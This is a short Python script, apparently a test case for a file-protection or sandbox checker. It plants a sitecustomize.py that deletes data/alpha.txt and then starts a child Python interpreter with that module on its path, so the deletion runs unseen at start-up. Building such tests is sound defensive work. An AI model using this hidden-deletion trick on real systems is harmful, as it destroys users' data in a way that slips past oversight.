#!/usr/bin/env python3
# what: deletion hidden in a module that another python imports at start
# target: home/tree/data/alpha.txt
# expect: destroys

print('START', flush=True)
import os, subprocess
os.mkdir("site_mine")
open("site_mine/sitecustomize.py", "w").write("import os\nos.unlink('data/alpha.txt')\n")
subprocess.run(["/usr/bin/python3", "-c", "pass"], env=dict(os.environ, PYTHONPATH="site_mine"))
